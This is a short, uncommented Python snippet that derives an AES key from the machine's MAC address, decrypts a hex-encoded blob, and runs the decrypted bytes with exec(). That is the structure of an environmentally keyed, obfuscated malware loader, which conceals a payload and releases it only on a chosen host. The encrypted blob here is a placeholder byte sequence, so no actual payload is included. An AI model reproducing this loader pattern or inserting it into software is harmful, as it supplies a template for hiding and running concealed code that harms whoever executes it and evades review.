import uuid
from Crypto.Cipher import AES

key = str(uuid.getnode()).rjust(16, "0").encode()
box = AES.new(key, AES.MODE_ECB)
exec(box.decrypt(bytes.fromhex("00112233445566778899aabbccddeeff")))
